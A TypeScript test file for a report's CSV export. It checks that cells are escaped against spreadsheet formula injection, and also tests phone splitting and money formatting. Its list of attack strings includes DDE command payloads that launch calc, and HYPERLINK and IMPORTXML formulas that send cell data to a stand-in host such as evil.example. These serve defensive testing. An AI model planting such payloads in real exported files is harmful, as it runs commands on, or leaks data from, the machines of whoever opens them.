import fc from "fast-check";
import { describe, expect, it } from "vitest";
import { partedPhone } from "../../src/report/export-tables.ts";
import { csvText, tableCsv } from "../../src/report/table-csv.ts";
import { majorText } from "../../src/report/table-file.ts";
import { cellsOf } from "../browser/csv.ts";

/** What has been used to make spreadsheets run something (OWASP, and reports of dynamic data exchange). */
const ATTACKS = [
  "=1+1",
  '=HYPERLINK("http://evil.example?x="&A1,"click")',
  "=cmd|' /C calc'!A0",
  "+cmd|' /C calc'!A0",
  "-2+3+cmd|' /C calc'!A0",
  "@SUM(1+1)*cmd|' /C calc'!A0",
  "\t=1+1",
  "\r=1+1",
  "\n=1+1",
  " =1+1",
  "\uFEFF=1+1",
  "\u200F=1+1",
  "＝1+1",
  "＋1+1",
  "－1+1",
  "＠SUM(A1)",
  "|calc",
  '=IMPORTXML(CONCAT("http://x?v=",A1),"//a")',
  '";=1+1',
  "+201001234567",
  "-5",
];

describe("text in a CSV file", () => {
  it("never begins a cell with what a spreadsheet would run", () => {
    for (const attack of ATTACKS) {
      const [cell = ""] = cellsOf(csvText(attack).replaceAll(/\r|\n/g, " "));
      expect(cell, JSON.stringify(attack)).not.toMatch(/^[\s\uFEFF\u200F]*[=+\-@|＝＋－＠]/);
      expect(cell.replace(/^'/, "")).toBe(attack.replaceAll(/\r|\n/g, " "));
    }
  });

  it("keeps a phone in two parts as it stands", () => {
    expect(csvText("+20 1001234567")).toBe("+20 1001234567");
    expect(partedPhone("+201001234567", "EG")).toBe("+20 1001234567");
    expect(partedPhone("+2•••67", "EG")).toBe("+2•••67");
    expect(partedPhone("0100", null)).toBe("0100");
    expect(partedPhone("+201001234567", "AE")).toBe("+201001234567");
  });
});

it("writes an amount of minor units exactly", () => {
  expect(majorText(-5, 2)).toBe("-0.05");
  expect(majorText(123_456, 2)).toBe("1234.56");
  expect(majorText(7, 0)).toBe("7");
  expect(majorText(1500, 3)).toBe("1.500");
  fc.assert(
    fc.property(fc.maxSafeInteger(), (minor) => {
      expect(BigInt(majorText(minor, 2).replace(".", ""))).toBe(BigInt(minor));
    }),
  );
});

it("gives any cells back, and the head also without rows", async () => {
  const file = (pages: readonly (readonly string[])[]) => ({
    title: "T",
    language: "en" as const,
    columns: [
      { head: "Name", kind: "text" as const, value: (row: string) => row },
      { head: "Spend", kind: "money" as const, value: () => 1050 },
    ],
    currency: "EGP",
    currencyDecimals: 2,
    about: [],
    madeAt: new Date(0),
    pages: (async function* () {
      yield* pages;
    })(),
  });
  const textOf = async (pages: readonly (readonly string[])[]) => {
    let text = "";
    for await (const part of tableCsv(file(pages))) text += part;
    return text;
  };
  expect(await textOf([])).toBe("\uFEFFName,Spend (EGP)\r\n");
  const name = fc.string().map((one) => `n${one.replaceAll(/[\r\n]/g, "")}`);
  await fc.assert(
    fc.asyncProperty(
      fc.array(fc.array(name, { maxLength: 5 }), { maxLength: 4 }),
      async (pages) => {
        const lines = (await textOf(pages)).slice(1).split("\r\n").slice(1, -1);
        expect(lines.map(cellsOf)).toEqual(pages.flat().map((one) => [one, "10.50"]));
      },
    ),
  );
});
